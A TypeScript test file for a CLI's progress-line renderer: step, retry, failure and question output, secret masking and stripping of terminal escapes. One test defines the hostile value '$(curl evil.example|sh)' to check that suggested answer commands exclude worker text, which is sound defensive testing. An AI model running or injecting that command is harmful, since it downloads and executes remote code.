import { createEvent, type EventDraft, type RunEvent } from '@pilothouse/contract/events/event-log.schema';
import { activityLine, Progress } from './progress-lines.ts';
import { styleFor } from './text-style.ts';

const now = new Date('2026-05-04T12:00:00.000Z');
let seq = 0;
const numbered = (draft: EventDraft): RunEvent => ({
  ...draft,
  seq: ++seq,
  run: '0197f3c2-1a2b-7c3d-8e4f-5a6b7c8d9e0f',
  epoch: 1,
});
const error = { code: 'TARGET_NOT_FOUND', message: 'nothing', retry: 'no' } as const;
const stepStarted = (step: number, title: string) =>
  numbered(createEvent('step.started', title, { step, id: null, action: 'click', title, summary: title }, now));
const stepCompleted = (step: number, value?: string | object[]) =>
  numbered(
    createEvent(
      'step.completed',
      'done',
      {
        step,
        id: null,
        tier: 'replay' as const,
        durationMs: 840,
        outcome: 'completed' as const,
        effect: 'confirmed' as const,
        located: null,
        value: value as never,
        page: null,
      },
      now,
    ),
  );

test('a step whose effect was not seen says so', () => {
  const run = progress();
  run.update(stepStarted(2, 'Type the name'));
  const { data, ...event } = stepCompleted(2);
  const result = { effect: 'unverifiable', effectReason: 'No field has the focus' };
  const [line] = run.update({ ...event, data: { ...(data as object), ...result } } as RunEvent).lines;
  expect(line).toMatch(/^✓ {2}3\/24 {2}Type the name +0\.8 s {2}not verified: No field has the focus$/);
});

const queued = (steps?: number) => {
  const data = { fleet: 'browser', priority: 0, retryOf: null, ...(steps !== undefined && { steps }) };
  return numbered(createEvent('run.queued', 'Queued', data, now));
};
const progress = () => {
  const run = new Progress(styleFor(false));
  run.update(queued(24));
  return run;
};

test('a completed step is one line: symbol, number, title, duration, short output', () => {
  const run = progress();
  expect(run.update(stepStarted(2, 'Read the catalogue'))).toEqual({
    lines: [],
    activity: { text: ' 3/24  Read the catalogue', since: now.toISOString() },
  });
  const branch = { step: 2, id: null, branch: 'left', sequence: 1, action: 'click', title: 'Open' } as const;
  expect(run.update(numbered(createEvent('branch.step_started', 'left: Open', branch, now)))).toMatchObject({
    activity: { text: '  left  Open' },
  });
  const { lines, activity } = run.update(stepCompleted(2, [{ sku: 'A' }, { sku: 'B' }]));
  expect(lines).toHaveLength(1);
  expect(lines[0]).toMatch(/^✓ {2}3\/24 {2}Read the catalogue +0\.8 s {2}2 rows \(sku\)$/);
  expect(activity).toBeNull();
});

test('a retried attempt is a line, and the activity shows the next attempt', () => {
  const run = progress();
  const ref = { step: 3, path: 'log_in', id: 'log_in' };
  const startData = { ...ref, action: 'click', title: 'Log in', summary: '' } as const;
  run.update(numbered(createEvent('step.started', 'Log in', startData, now)));
  const retry = {
    attempt: 1,
    maxAttempts: 3,
    errorCode: error.code,
    error,
    outcome: 'refused' as const,
    effect: 'none' as const,
    durationMs: 30_000,
    nextAttemptAt: now.toISOString(),
  };
  const { lines, activity } = run.update(numbered(createEvent('step.retrying', 'no', { ...ref, ...retry }, now)));
  expect(lines).toHaveLength(1);
  expect(lines[0]).toMatch(/^↻ {2}4\/24 {2}Log in +30 s {2}TARGET_NOT_FOUND, attempt 1 of 3$/);
  expect(activity?.text).toBe(' 4/24  waiting for attempt 2');
});

test('a failed step has a cross and its code; a failed run names its step', () => {
  const run = progress();
  run.update(stepStarted(3, 'Log in'));
  const [line] = run.update(
    numbered(
      createEvent(
        'step.failed',
        'no',
        { step: 3, id: null, error, outcome: 'refused', effect: 'none', durationMs: 30_000 },
        now,
      ),
    ),
  ).lines;
  expect(line).toMatch(/^✗ {2}4\/24 {2}Log in +30 s {2}TARGET_NOT_FOUND$/);
  expect(run.failure).toBeNull();
  run.update(numbered(createEvent('run.failed', 'no', { error, step: 3 }, now)));
  expect(run.failure).toEqual({ step: 3, number: '4', title: 'Log in' });
});

test('with control flow, a line has the path of its step, and titles are aligned', () => {
  const run = new Progress(styleFor(false));
  run.update(queued());
  const title = 'Read';
  const stepRef = (step: number, path?: string) => ({ step, ...(path !== undefined && { path }), id: null });
  const startEvent = (ref: { step: number; id: null }) =>
    numbered(createEvent('step.started', title, { ...ref, action: 'click', title, summary: title }, new Date(0)));
  const outcome = {
    tier: 'replay' as const,
    durationMs: 840,
    outcome: 'completed' as const,
    effect: 'confirmed' as const,
    located: null,
    page: null,
  };
  const numbers = [stepRef(0), stepRef(1, '2[1]/1'), stepRef(2, '2[2]/1'), stepRef(3, '3')].map((ref) => {
    run.update(startEvent(ref));
    const [line = ''] = run.update(
      numbered(createEvent('step.completed', 'done', { ...ref, ...outcome }, new Date(0))),
    ).lines;
    expect(line.indexOf(title)).toBe(12);
    return line.split(/ +/)[1];
  });
  expect(numbers).toEqual(['1', '2[1]/1', '2[2]/1', '3']);
  run.update(numbered(createEvent('run.failed', 'no', { error, step: 2 }, new Date(0))));
  expect(run.failure).toEqual({ step: 2, number: '2[2]/1', title });
});

test('a step with an id has the number of its position', () => {
  const run = new Progress(styleFor(false));
  run.update(queued());
  const ref = { step: 4, path: 'orders[2]/visit', id: 'visit' };
  const data = { ...ref, label: '3[2]/1', action: 'click' as const, title: 'Visit', summary: 'Visit' };
  expect(run.update(numbered(createEvent('step.started', 'Visit', data, new Date(0)))).activity?.text).toBe(
    '3[2]/1    Visit',
  );
  const outcome = {
    tier: 'replay' as const,
    durationMs: 840,
    outcome: 'completed' as const,
    effect: 'confirmed' as const,
    located: null,
    page: null,
  };
  expect(
    run.update(numbered(createEvent('step.completed', 'done', { ...ref, ...outcome }, new Date(0)))).lines[0],
  ).toMatch(/^✓ 3\[2\]\/1 {4}Visit/);
  run.update(numbered(createEvent('run.failed', 'no', { error, step: 4 }, new Date(0))));
  expect(run.failure).toEqual({ step: 4, number: '3[2]/1', title: 'Visit' });
});

test('a secret in a title is an ellipsis', () => {
  const run = progress();
  run.update(stepStarted(2, 'Type “{{inputs.password}}” into “Password”'));
  expect(run.update(stepCompleted(2)).lines[0]).toContain('Type “…” into “Password”');
});

test('a lost worker is shown, and the wait for another one', () => {
  const lost = numbered(createEvent('run.requeued', 'The worker went away', { error, worker: 'w' }, now));
  expect(progress().update(lost)).toEqual({
    lines: ['↻ requeued for another worker: The worker went away'],
    activity: { text: 'waiting for another worker', since: now.toISOString() },
  });
});

test('untrusted titles and messages cannot control the terminal', () => {
  const run = progress();
  run.update(stepStarted(0, 'Open \u001b]0;mine\u0007the page\r'));
  expect(run.update(stepCompleted(0)).lines[0]).toContain('Open the page');
  const warning = numbered(createEvent('run.log', 'x\u001b[2Jy', { facts: {} }, now, 'warn'));
  expect(run.update(warning).lines).toEqual(['! xy']);
});

test('event data that does not match the schema is ignored', () => {
  const run = progress();
  expect(run.update({ ...stepCompleted(0), data: { of: 'another form' } })).toEqual({ lines: [] });
  expect(run.update({ ...stepCompleted(0), type: 'run.dreaming' as never })).toEqual({ lines: [] });
});

test('debug and info logs are for `logs`', () => {
  expect(progress().update(numbered(createEvent('run.log', 'quiet', { facts: {} }, now))).lines).toEqual([]);
});

test('the activity line shows its duration from two seconds on', () => {
  const work = { text: 'Log in', since: now.toISOString() };
  expect(activityLine(work, new Date(now.getTime() + 900))).toBe('Log in');
  expect(activityLine(work, new Date(now.getTime() + 3_400))).toBe('Log in  3 s');
  expect(activityLine(work, new Date(now.getTime() + 65_000))).toBe('Log in  1 min 05 s');
});

test('a question is shown with the commands that answer it', () => {
  const run = progress();
  const question = {
    step: 4,
    id: 'order',
    key: '2.4.0',
    reason: 'Step 5 may have run before',
    choices: [
      { choice: 'continue' as const, title: 'It happened' },
      { choice: 'retry' as const, title: 'It did not' },
    ],
    expiresAt: now.toISOString(),
  };
  const update = run.update(numbered(createEvent('run.awaiting_user', question.reason, question, now)));
  expect(update.lines).toEqual([
    '? Step 5 may have run before',
    '  npx pilothouse runs answer 0197f3c2-1a2b continue --question 2.4.0',
    '    It happened',
    '  npx pilothouse runs answer 0197f3c2-1a2b retry --question 2.4.0',
    '    It did not',
    '  npx pilothouse runs answer 0197f3c2-1a2b complete --question 2.4.0',
    '    Mark the run as completed',
  ]);
  expect(update.activity?.text).toBe('needs input');
  // Command lines contain no text of a worker.
  const evil = '$(curl evil.example|sh)';
  const choices = [{ choice: 'continue' as const, title: evil }];
  const hostile = { ...question, key: `0.0@${evil}`, choices };
  const hostileLines = run.update(numbered(createEvent('run.awaiting_user', question.reason, hostile, now))).lines;
  const commands = hostileLines.filter((line) => line.includes('npx'));
  expect(commands).toEqual([
    '  npx pilothouse runs answer 0197f3c2-1a2b continue',
    '  npx pilothouse runs answer 0197f3c2-1a2b complete',
  ]);
  expect(hostileLines).toContain(`    ${evil}`);
  const resumed = { answeredBy: 'Ada', choice: 'retry' as const, step: 4 };
  expect(run.update(numbered(createEvent('run.answered', 'Ada answered: retry', resumed, now))).lines).toEqual([
    '· Ada answered: retry',
  ]);
});
